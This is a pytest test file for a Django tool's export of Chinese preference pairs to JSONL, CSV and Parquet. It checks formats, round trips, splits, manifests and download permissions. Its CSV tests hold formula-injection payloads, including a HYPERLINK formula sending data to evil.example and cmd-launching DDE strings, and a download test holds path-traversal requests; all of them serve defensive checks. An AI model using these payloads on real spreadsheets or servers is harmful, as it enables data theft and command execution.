"""Exports: golden files per format, round trips through the importer, selection, split, manifest,
the job on a real worker, and who may download what."""

import csv
import hashlib
import json
from pathlib import Path

import orjson
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from annotation import jobs
from annotation.ingest.formats import messages_hash
from annotation.models import Dataset, Job, Judge, Judgement, Pair, RewardModel, RewardScore
from annotation.statistics import cohen_kappa
from review.exports import FORMATS
from review.exports.records import HISTORY_UNREPRESENTABLE, TRL_SEPARATOR
from review.exports.writers import JsonlWriter
from review.models import Export, Review

from .conftest import ROOT, wait_for
from .helpers import Team, generated_pairs, write_jsonl

GOLDEN = Path(__file__).parent / "golden"

# A chat pair, a multi-turn math pair with a system prompt, and a code pair with quotes, commas and a code block.
FIXTURE = [
    {"domain": "对话", "conversations": [{"from": "human", "value": "你好，请介绍一下你自己。"}],
     "chosen": {"from": "gpt", "value": "你好！我是一个中文助手，可以回答问题、写作和编程。"},
     "rejected": {"from": "gpt", "value": "不知道。"}},
    {"domain": "数学", "conversations": [
        {"from": "system", "value": "你是一位耐心的数学老师。"},
        {"from": "human", "value": "1+1 等于几？"},
        {"from": "gpt", "value": "等于 2。"},
        {"from": "human", "value": "那么 2+2 呢？请写出过程。"}],
     "chosen": {"from": "gpt", "value": "2+2=4：把两个 2 相加，得到 $4$。"},
     "rejected": {"from": "gpt", "value": "5"}},
    {"domain": "代码", "conversations": [{"from": "human", "value": "写一个 Python 函数，返回列表的\"最大值\"。"}],
     "chosen": {"from": "gpt", "value": "```python\ndef biggest(xs):\n    return max(xs)\n```"},
     "rejected": {"from": "gpt", "value": "先排序, 再取最后一个, 用 \"sort\"。"}},
]
EXTENSION = {"csv": ".csv", "parquet": ".parquet"}
JSONL_FORMATS = [name for name, fmt in FORMATS.items() if fmt.writer is JsonlWriter]


def import_file(path, dataset):
    call_command("import_pairs", str(path), dataset=dataset, no_progress=True)
    return Dataset.objects.get(name=dataset)


def export(tmp_path, dataset, fmt, *args, name=None):
    directory = tmp_path / (name or fmt)
    directory.mkdir()
    out = directory / f"pairs{EXTENSION.get(fmt, '.jsonl')}"
    call_command("export_pairs", "--dataset", dataset, "--format", fmt, "--out", str(out), "--no-progress", *args)
    return directory, Export.objects.latest("pk")


def jsonl(path):
    return [orjson.loads(line) for line in path.read_bytes().splitlines()]


def pair_keys(dataset_name):
    return set(Pair.objects.filter(dataset__name=dataset_name).values_list(
        "prompt__content_hash", "chosen__text", "rejected__text", "domain"))


@pytest.fixture
def fixture_dataset(db, tmp_path):
    return import_file(write_jsonl(tmp_path / "fixture.jsonl", FIXTURE), "golden")


# ---------------------------------------------------------------------------------------------- golden files

@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "parquet"])
def test_each_format_writes_exactly_its_golden_file(fixture_dataset, tmp_path, fmt):
    directory, _ = export(tmp_path, "golden", fmt)
    name = f"pairs{EXTENSION.get(fmt, '.jsonl')}"
    assert (directory / name).read_bytes() == (GOLDEN / f"{fmt}{EXTENSION.get(fmt, '.jsonl')}").read_bytes()


def test_parquet_holds_the_conversational_columns_of_the_golden_pairs(fixture_dataset, tmp_path):
    directory, _ = export(tmp_path, "golden", "parquet")
    table = pq.read_table(directory / "pairs.parquet")
    assert table.schema.names == ["prompt", "chosen", "rejected", "domain"]
    assert str(table.schema.field("prompt").type) == "list<element: struct<role: string, content: string>>"
    assert table.to_pylist() == jsonl(GOLDEN / "trl-chat.jsonl")


def test_the_sharegpt_golden_file_keeps_the_system_prompt_apart_and_the_history_in_order():
    math = jsonl(GOLDEN / "sharegpt.jsonl")[1]
    assert math["system"] == "你是一位耐心的数学老师。"
    assert [t["from"] for t in math["conversations"]] == ["human", "gpt", "human"]
    assert math["chosen"] == {"from": "gpt", "value": "2+2=4：把两个 2 相加，得到 $4$。"}


def test_sharegpt_exports_register_in_a_llama_factory_dataset_info_entry(fixture_dataset, tmp_path):
    directory, _ = export(tmp_path, "golden", "sharegpt")
    info = json.loads((directory / "dataset_info.json").read_text())
    assert info == {"golden": {
        "file_name": "pairs.jsonl", "formatting": "sharegpt", "ranking": True,
        "columns": {"messages": "conversations", "chosen": "chosen", "rejected": "rejected", "system": "system"},
        "tags": {"role_tag": "from", "content_tag": "value", "user_tag": "human", "assistant_tag": "gpt"}}}


# ---------------------------------------------------------------------------------------------- a new format

def qa_record(p):
    """A format only this test knows: the query and the better answer."""
    return {"q": p.turns()[-1]["content"], "a": p.chosen}


QA_ROWS = [{"q": row["conversations"][-1]["value"], "a": row["chosen"]["value"]} for row in FIXTURE]


@pytest.fixture
def qa_format():
    """The whole of adding a format: a record builder and one registry entry (undone after the test)."""
    from review.exports import ExportFormat, SideFile, register

    yield register(ExportFormat("qa", "Question and answer (JSONL)", record=qa_record,
                                side_files=(SideFile("qa_info.json", "qa_info", lambda d, names: {d.name: names}),)))
    del FORMATS["qa"]


def test_a_format_registered_with_one_builder_is_exported_by_the_command(fixture_dataset, tmp_path, qa_format):
    directory, exp = export(tmp_path, "golden", "qa", "--with-meta")
    rows = jsonl(directory / "pairs.jsonl")
    assert [{"q": r["q"], "a": r["a"]} for r in rows] == QA_ROWS
    pair_ids = Pair.objects.filter(dataset=fixture_dataset).values_list("pk", flat=True)
    assert [r["pair_id"] for r in rows] == sorted(pair_ids)
    assert [f["name"] for f in exp.files] == ["pairs.jsonl", "manifest.json", "README.md", "qa_info.json"]
    assert json.loads((directory / "qa_info.json").read_text()) == {"golden": {"all": "pairs.jsonl"}}
    assert exp.manifest["format"] == "qa" and exp.manifest["counts"]["rows"] == 3
    assert "csv_cells" not in exp.manifest and exp.job.status == Job.Status.SUCCEEDED


def test_a_registered_format_is_offered_by_the_export_form_and_written_by_the_job(db, tmp_path, client, settings,
                                                                                 qa_format):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    team = Team.create()
    import_file(write_jsonl(tmp_path / "fixture.jsonl", FIXTURE), team.dataset.name)
    client.force_login(team.reviewer)
    page = client.get(reverse("dataset-detail", args=[team.dataset.pk])).content.decode()
    assert '<option value="qa">Question and answer (JSONL)</option>' in page
    response = client.post(reverse("export-create", args=[team.dataset.pk]),
                           {"format": "qa", "statuses": ["pending", "kept"]})
    assert response.status_code == 302
    exp = Export.objects.get(dataset=team.dataset, format="qa")
    assert jobs.execute(exp.job.pk) == Job.Status.SUCCEEDED
    exp.refresh_from_db()
    download = client.get(reverse("export-download", args=[exp.pk, "pairs.jsonl"]))
    assert download.status_code == 200
    assert [orjson.loads(line) for line in b"".join(download.streaming_content).splitlines()] == QA_ROWS


# ---------------------------------------------------------------------------------------------- round trips

@pytest.fixture
def sample_dataset(db, tmp_path):
    """The project's sample (72 pairs, system prompts, multi-turn history) plus the fixture."""
    import_file(ROOT / "sample_data" / "coigp_sample.jsonl", "sample")
    return import_file(write_jsonl(tmp_path / "fixture.jsonl", FIXTURE), "sample")


@pytest.mark.parametrize("fmt", JSONL_FORMATS)
def test_exporting_and_reimporting_gives_the_same_pairs(sample_dataset, tmp_path, fmt):
    directory, exp = export(tmp_path, "sample", fmt, "--with-meta")
    import_file(directory / "pairs.jsonl", f"again-{fmt}")
    original = pair_keys("sample")
    assert len(original) == 75
    if fmt in ("trl", "alpaca"):
        # These shapes have no room for earlier turns: those pairs are skipped and counted, the rest come back.
        single_turn = {(p.prompt.content_hash, p.chosen.text, p.rejected.text, p.domain)
                       for p in Pair.objects.filter(dataset__name="sample").select_related("prompt", "chosen", "rejected")
                       if [m["role"] for m in p.prompt.messages if m["role"] != "system"] == ["user"]}
        assert 0 < len(single_turn) < 75
        assert exp.manifest["counts"]["skipped"] == {HISTORY_UNREPRESENTABLE: 75 - len(single_turn)}
        original = single_turn
    again = pair_keys(f"again-{fmt}")
    if fmt == "trl":
        # The completions start with TRL's separator, which the importer keeps as text.
        assert all(c.startswith(TRL_SEPARATOR) and r.startswith(TRL_SEPARATOR) for _h, c, r, _d in again)
        again = {(h, c.removeprefix(TRL_SEPARATOR), r.removeprefix(TRL_SEPARATOR), d) for h, c, r, d in again}
    assert again == original


def _prompt_from_csv(row):
    system = [{"role": "system", "content": row["system"]}] if row["system"] else []
    history = json.loads(row["history"]) if row["history"] else []
    return system + history + [{"role": "user", "content": row["prompt"]}]


def test_csv_reads_back_as_the_same_pairs(sample_dataset, tmp_path):
    directory, _ = export(tmp_path, "sample", "csv", "--with-meta")
    with open(directory / "pairs.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    keys = {(messages_hash(_prompt_from_csv(r)), r["chosen"], r["rejected"], r["domain"]) for r in rows}
    assert len(rows) == 75 and keys == pair_keys("sample")


def test_parquet_reads_back_as_the_same_pairs(sample_dataset, tmp_path):
    directory, _ = export(tmp_path, "sample", "parquet", "--with-meta")
    rows = pq.read_table(directory / "pairs.parquet").to_pylist()
    keys = {(messages_hash(r["prompt"]), r["chosen"][0]["content"], r["rejected"][0]["content"], r["domain"])
            for r in rows}
    assert len(rows) == 75 and keys == pair_keys("sample")


@pytest.mark.parametrize("fmt, options, name", [
    ("csv", ("--with-meta",), "pairs.csv"),
    ("csv", ("--bom",), "pairs.csv"),
    ("parquet", ("--with-meta",), "pairs.parquet"),
])
def test_csv_and_parquet_exports_reimport_as_the_same_pairs(sample_dataset, tmp_path, fmt, options, name):
    directory, _ = export(tmp_path, "sample", fmt, *options)
    import_file(directory / name, f"again-{fmt}")
    assert pair_keys(f"again-{fmt}") == pair_keys("sample")


def test_a_csv_starts_with_a_byte_order_mark_only_when_asked(fixture_dataset, tmp_path):
    plain, _ = export(tmp_path, "golden", "csv", name="plain")
    bom, _ = export(tmp_path, "golden", "csv", "--bom", name="bom")
    assert not (plain / "pairs.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (bom / "pairs.csv").read_bytes() == b"\xef\xbb\xbf" + (plain / "pairs.csv").read_bytes()


# ---------------------------------------------------------------------------------------------- CSV cells

# What spreadsheets run as formulas (OWASP's list), and a text that already starts with a quote before one.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2*3", "'=已经加了引号"]
CSV_TEXT = ["system", "prompt", "chosen", "rejected", "chosen_model", "rejected_model"]


@pytest.fixture
def hostile_dataset(db, tmp_path):
    """One pair per formula, every text of it (system, query, both responses, both models) starting with it."""
    rows = [{"domain": "数学", "conversations": [{"from": "system", "value": f}, {"from": "human", "value": f + " 问"}],
             "chosen": {"from": "gpt", "value": f + " 好"}, "rejected": {"from": "gpt", "value": f + " 差"}}
            for f in FORMULAS]
    dataset = import_file(write_jsonl(tmp_path / "hostile.jsonl", rows), "hostile")
    for pair in Pair.objects.filter(dataset=dataset).select_related("prompt", "chosen", "rejected"):
        formula = pair.prompt.messages[0]["content"]
        pair.chosen.model, pair.rejected.model = formula + " model-a", formula + " model-b"
        pair.chosen.save(update_fields=["model"])
        pair.rejected.save(update_fields=["model"])
    return dataset


def _csv_rows(path):
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _stored_texts():
    """{query: the stored texts of its pair, in CSV_TEXT order}."""
    out = {}
    for pair in Pair.objects.select_related("prompt", "chosen", "rejected"):
        system, query = pair.prompt.messages[0]["content"], pair.prompt.messages[-1]["content"]
        out[query] = [system, query, pair.chosen.text, pair.rejected.text, pair.chosen.model, pair.rejected.model]
    return out


def _undo(cell, csv_cells):
    """The undo rule exactly as the manifest states it."""
    rest = cell.lstrip(csv_cells["prefix"])
    if cell.startswith(csv_cells["prefix"]) and rest.startswith(tuple(csv_cells["formula_leads"])):
        return cell[1:]
    return cell


def test_csv_cells_that_start_a_formula_get_a_leading_quote_in_every_text_column(hostile_dataset, tmp_path):
    directory, exp = export(tmp_path, "hostile", "csv", "--with-meta")
    rows, stored = _csv_rows(directory / "pairs.csv"), _stored_texts()
    assert len(rows) == len(FORMULAS) == len(stored)
    for row in rows:
        original = stored[_undo(row["prompt"], exp.manifest["csv_cells"])]
        for column, text in zip(CSV_TEXT, original):
            assert row[column] == "'" + text, column
    cells = exp.manifest["csv_cells"]
    assert cells["neutralised"] is True and cells["cells_changed"] == len(FORMULAS) * len(CSV_TEXT)
    assert cells["formula_leads"] == ["=", "+", "-", "@", "\t", "\r"]
    assert all(_undo(row[c], cells) == text for row in rows
               for c, text in zip(CSV_TEXT, stored[_undo(row["prompt"], cells)])), "the manifest's undo is exact"
    card = (directory / "README.md").read_text(encoding="utf-8")
    assert "## CSV cells" in card and "These cells are altered" in card and "JSONL or Parquet" in card


def test_raw_csv_cells_are_exactly_the_stored_texts_and_reimport_as_the_same_pairs(hostile_dataset, tmp_path):
    directory, exp = export(tmp_path, "hostile", "csv", "--with-meta", "--raw-csv")
    stored = _stored_texts()
    for row in _csv_rows(directory / "pairs.csv"):
        assert [row[c] for c in CSV_TEXT] == stored[row["prompt"]]
    assert exp.manifest["csv_cells"]["neutralised"] is False and "cells_changed" not in exp.manifest["csv_cells"]
    assert "Cells are written exactly as stored" in (directory / "README.md").read_text(encoding="utf-8")
    import_file(directory / "pairs.csv", "hostile-again")
    assert pair_keys("hostile-again") == pair_keys("hostile")


def test_numbers_and_minus_signs_after_the_start_of_a_cell_are_left_alone(fixture_dataset, tmp_path):
    pair = Pair.objects.filter(dataset=fixture_dataset, domain="math").get()
    pair.chosen.text = "x = -2+3，答案是 -1。"
    pair.chosen.save(update_fields=["text"])
    Pair.objects.filter(pk=pair.pk).update(chosen_score=3.0, rejected_score=5.5)
    directory, exp = export(tmp_path, "golden", "csv", "--with-meta")
    row = next(r for r in _csv_rows(directory / "pairs.csv") if r["domain"] == "math")
    assert row["chosen"] == "x = -2+3，答案是 -1。" and row["rejected"] == "5"
    assert row["panel_gap"] == "-2.5", "a number the export computed is no formula"
    assert exp.manifest["csv_cells"]["cells_changed"] == 0


def test_only_csv_exports_record_csv_cells(fixture_dataset, tmp_path):
    directory, exp = export(tmp_path, "golden", "trl")
    assert "csv_cells" not in exp.manifest and "neutralised_cells" not in exp.manifest["counts"]
    assert "## CSV cells" not in (directory / "README.md").read_text(encoding="utf-8")


# ---------------------------------------------------------------------------------------------- selection

@pytest.fixture
def reviewed(fixture_dataset, tmp_path):
    """Six pairs: pending, kept, filtered, both bad, incorrect, and one two reviewers find the other way round."""
    team = Team.create("reviewers")
    more = [dict(FIXTURE[0], chosen={"from": "gpt", "value": f"回答 {i}"}) for i in range(3)]
    import_file(write_jsonl(tmp_path / "more.jsonl", more), "golden")
    pairs = list(Pair.objects.filter(dataset=fixture_dataset).order_by("pk"))
    Pair.objects.filter(pk=pairs[1].pk).update(status="kept")
    Pair.objects.filter(pk=pairs[2].pk).update(status="filtered", status_reason="reward:crm")
    Review.objects.create(pair=pairs[3], reviewer=team.reviewer, verdict="both_bad")
    Review.objects.create(pair=pairs[4], reviewer=team.reviewer, verdict="chosen_better", better_correct=False)
    Review.objects.create(pair=pairs[5], reviewer=team.reviewer, verdict="rejected_better", note="反了")
    Review.objects.create(pair=pairs[5], reviewer=team.admin, verdict="rejected_better")
    Review.objects.create(pair=pairs[0], reviewer=team.reviewer, verdict="rejected_better")
    Review.objects.create(pair=pairs[0], reviewer=team.admin, verdict="chosen_better")
    return pairs


def test_by_default_filtered_both_bad_and_incorrect_pairs_are_left_out_and_reversed_ones_swapped(reviewed, tmp_path):
    directory, exp = export(tmp_path, "golden", "trl-chat", "--with-meta")
    rows = jsonl(directory / "pairs.jsonl")
    assert [r["pair_id"] for r in rows] == [reviewed[0].pk, reviewed[1].pk, reviewed[5].pk]
    swapped = rows[2]
    assert swapped["swapped"] is True
    assert (swapped["chosen"][0]["content"], swapped["rejected"][0]["content"]) == (reviewed[5].rejected.text,
                                                                                    reviewed[5].chosen.text)
    assert swapped["review_verdicts"] == ["rejected_better", "rejected_better"] and swapped["review_notes"] == ["反了"]
    assert rows[0]["swapped"] is False, "one vote each way is no majority"
    counts = exp.manifest["counts"]
    assert counts["excluded"] == {"status:filtered": 1, "review:both_bad": 1, "review:incorrect": 1}
    assert counts["swapped"] == 1 and counts["rows"] == 3


def test_status_all_exports_every_pair_and_still_applies_swaps(reviewed, tmp_path):
    directory, exp = export(tmp_path, "golden", "trl-chat", "--status", "all", "--with-meta")
    rows = jsonl(directory / "pairs.jsonl")
    assert sorted(r["pair_id"] for r in rows) == sorted(p.pk for p in reviewed)
    assert [r["pair_id"] for r in rows if r["swapped"]] == [reviewed[5].pk]
    assert exp.manifest["counts"]["excluded"] == {}


def test_statuses_domains_min_gap_and_limit_narrow_the_selection(reviewed, tmp_path):
    Pair.objects.filter(pk=reviewed[0].pk).update(chosen_score=9, rejected_score=3)
    Pair.objects.filter(pk=reviewed[1].pk).update(chosen_score=6, rejected_score=5)
    directory, exp = export(tmp_path, "golden", "trl-chat", "--min-gap", "2", "--with-meta", name="gap")
    assert [r["pair_id"] for r in jsonl(directory / "pairs.jsonl")] == [reviewed[0].pk]
    assert exp.manifest["counts"]["excluded"]["min_gap"] == 2
    directory, _ = export(tmp_path, "golden", "trl-chat", "--status", "kept", "--with-meta", name="kept")
    assert [r["pair_id"] for r in jsonl(directory / "pairs.jsonl")] == [reviewed[1].pk]
    directory, _ = export(tmp_path, "golden", "trl-chat", "--domain", "math", "--status", "all", name="math")
    assert [r["domain"] for r in jsonl(directory / "pairs.jsonl")] == ["math"]
    directory, exp = export(tmp_path, "golden", "trl-chat", "--status", "all", "--limit", "4", name="limit")
    assert len(jsonl(directory / "pairs.jsonl")) == 4 == exp.manifest["counts"]["rows"]


def test_the_split_is_by_prompt_seeded_and_stratified_by_domain(db, tmp_path):
    import_file(write_jsonl(tmp_path / "g.jsonl", generated_pairs(480, pairs_per_prompt=4)), "gen")
    directory, exp = export(tmp_path, "gen", "sharegpt", "--split", "0.75", "--seed", "3", name="a")
    train, test = jsonl(directory / "pairs_train.jsonl"), jsonl(directory / "pairs_test.jsonl")
    prompts = {split: {r["conversations"][-1]["value"] for r in rows} for split, rows in (("train", train), ("test", test))}
    assert prompts["train"] and prompts["test"] and not prompts["train"] & prompts["test"]
    # 120 prompts, 20 per domain: 5 of each domain's prompts (20 pairs) go to test.
    assert exp.manifest["counts"]["by_split_domain"]["test"] == {d: 20 for d in
                                                                 ("chat", "code", "math", "logic", "novel", "role")}
    assert exp.manifest["counts"]["by_split"] == {"train": len(train), "test": len(test)} == {"train": 360, "test": 120}
    files = {f["name"]: f for f in exp.files}
    assert files["pairs_test.jsonl"]["rows"] == 120 and files["pairs_test.jsonl"]["split"] == "test"
    again, _ = export(tmp_path, "gen", "sharegpt", "--split", "0.75", "--seed", "3", name="b")
    other, _ = export(tmp_path, "gen", "sharegpt", "--split", "0.75", "--seed", "4", name="c")
    assert (again / "pairs_test.jsonl").read_bytes() == (directory / "pairs_test.jsonl").read_bytes()
    assert (other / "pairs_test.jsonl").read_bytes() != (directory / "pairs_test.jsonl").read_bytes()
    info = json.loads((directory / "dataset_info.json").read_text())
    assert {k: v["file_name"] for k, v in info.items()} == {"gen_train": "pairs_train.jsonl", "gen_test": "pairs_test.jsonl"}


@pytest.mark.parametrize("fmt", ["alpaca", "trl"])
def test_a_pair_with_earlier_turns_is_skipped_and_counted_by_the_single_turn_formats(db, tmp_path, fmt):
    odd = {"prompt": [{"role": "user", "content": "第一句"}, {"role": "user", "content": "第二句"}],
           "chosen": [{"role": "assistant", "content": "好"}], "rejected": [{"role": "assistant", "content": "坏"}]}
    import_file(write_jsonl(tmp_path / "odd.jsonl", [odd]), "odd")
    import_file(write_jsonl(tmp_path / "even.jsonl", [FIXTURE[0], FIXTURE[1]]), "odd")
    directory, exp = export(tmp_path, "odd", fmt)
    assert len(jsonl(directory / "pairs.jsonl")) == 1
    assert exp.manifest["counts"]["skipped"] == {HISTORY_UNREPRESENTABLE: 2}
    # A pair left out of the file is a problem to see, not a green export.
    assert exp.job.status == Job.Status.PROBLEMS
    assert jobs.failure_summary(exp.job) == "2 of 3 pairs skipped (the format cannot express them)"
    directory, exp = export(tmp_path, "odd", "trl-chat", name="chat")
    assert len(jsonl(directory / "pairs.jsonl")) == 3 and exp.job.status == Job.Status.SUCCEEDED


def test_outside_a_transaction_the_next_batch_is_prefetched_and_the_rows_are_the_same(transactional_db, tmp_path,
                                                                                    monkeypatch):
    from review.exports import stream

    monkeypatch.setattr(stream, "BATCH_SIZE", 7)
    import_file(write_jsonl(tmp_path / "g.jsonl", generated_pairs(60)), "prefetch")
    threads = []
    real = stream._prefetched
    monkeypatch.setattr(stream, "_prefetched", lambda it: threads.append(1) or real(it))
    directory, exp = export(tmp_path, "prefetch", "trl", "--with-meta")
    assert threads, "the prefetching path ran"
    ids = [r["pair_id"] for r in jsonl(directory / "pairs.jsonl")]
    assert ids == sorted(Pair.objects.filter(dataset__name="prefetch").values_list("pk", flat=True))
    assert exp.manifest["counts"]["rows"] == 60


def test_an_export_cancelled_mid_way_stops_and_leaves_no_prefetching_thread(transactional_db, tmp_path, monkeypatch):
    import threading

    from annotation import jobs
    from review.exports import Selection, create_export, stream

    monkeypatch.setattr(stream, "BATCH_SIZE", 5)
    dataset = import_file(write_jsonl(tmp_path / "g.jsonl", generated_pairs(60)), "cancel")
    exp = create_export(dataset, "parquet", Selection(), out_dir=tmp_path / "out", enqueue=False)

    def cancel_after_first_batch(job, counts):
        jobs.request_cancel(job)
    status = jobs.execute(exp.job.pk, on_progress=cancel_after_first_batch)
    exp.job.refresh_from_db()
    assert status == Job.Status.CANCELLED == exp.job.status
    assert exp.job.done == 5 and exp.job.counts["rows"] == 5
    assert not [t for t in threading.enumerate() if t.name == "export-prefetch"]


# ---------------------------------------------------------------------------------------------- metadata, manifest, card

def test_metadata_columns_carry_judge_scores_gap_reward_margin_and_models(fixture_dataset, tmp_path):
    pair = Pair.objects.filter(dataset=fixture_dataset).order_by("pk").first()
    Pair.objects.filter(pk=pair.pk).update(chosen_score=8.5, rejected_score=3.0)
    for judge_name, chosen, rejected in (("gpt-4o", 9, 3), ("glm-4", 8, 3)):
        judge = Judge.objects.create(name=judge_name)
        Judgement.objects.create(response=pair.chosen, judge=judge, score=chosen, status="ok")
        Judgement.objects.create(response=pair.rejected, judge=judge, score=rejected, status="ok")
    crm = RewardModel.objects.create(name="crm-8b", version=2, backend="hf")
    RewardScore.objects.create(response=pair.chosen, reward_model=crm, reward=1.25)
    RewardScore.objects.create(response=pair.rejected, reward_model=crm, reward=-0.5)
    directory, exp = export(tmp_path, "golden", "openrlhf", "--with-meta")
    row = jsonl(directory / "pairs.jsonl")[0]
    assert row["chosen_scores"] == [{"judge": "glm-4", "score": 8.0}, {"judge": "gpt-4o", "score": 9.0}]
    assert row["rejected_scores"] == [{"judge": "glm-4", "score": 3.0}, {"judge": "gpt-4o", "score": 3.0}]
    assert row["panel_gap"] == 5.5 and row["reward_margin"] == 1.75 and row["pair_id"] == pair.pk
    assert exp.manifest["reward_models"] == [{"name": "crm-8b", "version": 2, "backend": "hf"}]
    assert [j["name"] for j in exp.manifest["judges"]] == ["glm-4", "gpt-4o"]
    assert exp.manifest["judges"][0]["judgements"] == 2
    directory, _ = export(tmp_path, "golden", "parquet", "--with-meta", name="pq")
    table = pq.read_table(directory / "pairs.parquet")
    assert table.schema.names[4:] == ["pair_id", "status", "chosen_model", "rejected_model", "chosen_scores",
                                      "rejected_scores", "panel_gap", "reward_margin", "review_verdicts",
                                      "review_notes", "swapped"]
    assert table.to_pylist()[0]["chosen_scores"] == [{"judge": "glm-4", "score": 8.0}, {"judge": "gpt-4o", "score": 9.0}]


def test_the_manifest_checksums_and_counts_match_the_files(fixture_dataset, tmp_path):
    directory, exp = export(tmp_path, "golden", "sharegpt", "--split", "0.5")
    manifest = json.loads((directory / "manifest.json").read_text())
    assert manifest == exp.manifest
    for f in manifest["files"]:
        data = (directory / f["name"]).read_bytes()
        assert f["sha256"] == hashlib.sha256(data).hexdigest() and f["bytes"] == len(data)
        assert f["rows"] == len(data.splitlines())
    assert sum(f["rows"] for f in manifest["files"]) == manifest["counts"]["rows"] == 3
    assert manifest["selection"]["statuses"] == ["pending", "kept", "swapped"] and manifest["code_version"]
    assert manifest["review"] == {"total_pairs": 3, "reviewed_pairs": 0, "coverage": 0.0,
                                  "doubly_reviewed_pairs": 0, "kappa": None}


def test_the_dataset_card_has_hugging_face_front_matter_counts_and_review_agreement(reviewed, tmp_path):
    directory, exp = export(tmp_path, "golden", "trl-chat", "--split", "0.5")
    card = (directory / "README.md").read_text(encoding="utf-8")
    front, body = card.split("---\n")[1], card.split("---\n", 2)[2]
    assert "language:\n- zh\n" in front and "task_categories:\n- text-generation\n" in front
    assert "size_categories:\n- n<1K\n" in front
    assert '  - split: train\n    path: "pairs_train.jsonl"\n  - split: test\n    path: "pairs_test.jsonl"' in front
    review = exp.manifest["review"]
    assert (review["reviewed_pairs"], review["total_pairs"], review["doubly_reviewed_pairs"]) == (4, 6, 2)
    # pair 0: rejected_better vs chosen_better; pair 5: rejected_better twice.
    assert review["kappa"] == pytest.approx(cohen_kappa([("rejected_better", "chosen_better", 1),
                                                         ("rejected_better", "rejected_better", 1)]))
    assert "coverage: 4 of 6 pairs reviewed (66.7%)" in body
    by_split = exp.manifest["counts"]["by_split"]
    assert f"| **total** | {by_split.get('train', 0)} | {by_split.get('test', 0)} |" in body


def test_cohens_kappa_matches_a_hand_computed_value():
    table = [("a", "a", 2), ("a", "b", 0), ("b", "a", 1), ("b", "b", 1), ("c", "c", 1)]
    # agreement 4/5; chance: A (a2 b2 c1) × B (a3 b1 c1) / 25 = 6/25 + 2/25 + 1/25 = 9/25
    assert cohen_kappa(table) == pytest.approx((0.8 - 9 / 25) / (1 - 9 / 25))
    assert cohen_kappa([]) is None and cohen_kappa([("a", "a", 3)]) is None


# ---------------------------------------------------------------------------------------------- command line

def test_the_command_refuses_to_overwrite_files_and_names_bad_options(fixture_dataset, tmp_path):
    export(tmp_path, "golden", "trl", name="once")
    out = tmp_path / "once" / "pairs.jsonl"
    with pytest.raises(CommandError, match="pairs.jsonl, manifest.json, README.md already exist"):
        call_command("export_pairs", "--dataset", "golden", "--format", "trl", "--out", str(out), "--no-progress")
    with pytest.raises(CommandError, match="no dataset is called 'nope'"):
        call_command("export_pairs", "--dataset", "nope", "--format", "trl", "--out", str(out), "--no-progress")
    with pytest.raises(CommandError, match="strictly between 0 and 1; got 1.5"):
        call_command("export_pairs", "--dataset", "golden", "--format", "trl", "--out", str(tmp_path / "x.jsonl"),
                     "--split", "1.5", "--no-progress")
    with pytest.raises(CommandError, match="unknown status"):
        call_command("export_pairs", "--dataset", "golden", "--format", "trl", "--out", str(tmp_path / "x.jsonl"),
                     "--status", "bogus", "--no-progress")


# ---------------------------------------------------------------------------------------------- web: job and downloads

def _login(client, user):
    client.force_login(user)
    return client


@pytest.mark.worker
def test_a_reviewer_exports_from_the_dataset_page_and_members_download_the_files(thread_worker, client, tmp_path,
                                                                                settings):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    team = Team.create()
    import_file(write_jsonl(tmp_path / "fixture.jsonl", FIXTURE), team.dataset.name)
    _login(client, team.reviewer)
    page = client.get(reverse("dataset-detail", args=[team.dataset.pk]))
    assert b'id="export-form"' in page.content
    response = client.post(reverse("export-create", args=[team.dataset.pk]),
                           {"format": "sharegpt", "statuses": ["pending", "kept"], "split": "0.5", "seed": "1"})
    assert response.status_code == 302
    export = Export.objects.get(dataset=team.dataset)
    assert response["Location"] == reverse("job-detail", args=[export.job.pk]) and export.created_by == team.reviewer

    def finished():
        export.job.refresh_from_db()
        return export.job.is_finished()
    wait_for(finished, timeout=60, message="the export job")
    assert export.job.status == Job.Status.SUCCEEDED, export.job.error
    assert export.job.done == export.job.total == 3 and export.job.counts["rows"] == 3
    export.refresh_from_db()
    names = [f["name"] for f in export.files]
    assert names == ["pairs_train.jsonl", "pairs_test.jsonl", "manifest.json", "README.md", "dataset_info.json"]
    job_page = client.get(reverse("job-detail", args=[export.job.pk]))
    for name in names:
        assert reverse("export-download", args=[export.pk, name]).encode() in job_page.content

    client.logout()
    _login(client, team.viewer)
    download = client.get(reverse("export-download", args=[export.pk, "pairs_train.jsonl"]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == (export.directory() / "pairs_train.jsonl").read_bytes()
    assert "attachment" in download["Content-Disposition"]
    (export.directory() / "secret.txt").write_text("not part of the export")
    for bad in ("secret.txt", "..", "pairs.jsonl", "manifest.json.bak"):
        assert client.get(reverse("export-download", args=[export.pk, bad])).status_code == 404
    assert client.get(f"/exports/{export.pk}/..%2F..%2Fsettings.py").status_code == 404
    client.logout()
    _login(client, team.outsider)
    assert client.get(reverse("export-download", args=[export.pk, "pairs_train.jsonl"])).status_code == 404


def test_viewers_may_not_start_an_export_and_outsiders_do_not_see_the_dataset(team, client):
    url = reverse("export-create", args=[team.dataset.pk])
    data = {"format": "trl", "statuses": ["pending", "kept"]}
    assert _login(client, team.viewer).post(url, data).status_code == 403
    assert b'id="export-form"' not in client.get(reverse("dataset-detail", args=[team.dataset.pk])).content
    client.logout()
    assert _login(client, team.outsider).post(url, data).status_code == 404
    client.logout()
    assert _login(client, team.admin).get(url).status_code == 405
    assert not Export.objects.exists()


def test_the_export_form_writes_safe_csv_cells_unless_raw_cells_are_ticked(team, client):
    _login(client, team.reviewer)
    page = client.get(reverse("dataset-detail", args=[team.dataset.pk])).content.decode()
    assert 'name="raw_csv"' in page and "Raw CSV cells: for machine consumers, not spreadsheets" in page
    assert 'name="raw_csv" checked' not in page
    url = reverse("export-create", args=[team.dataset.pk])
    for data in ({}, {"raw_csv": "on"}):
        assert client.post(url, {"format": "csv", "statuses": ["pending", "kept"], **data}).status_code == 302
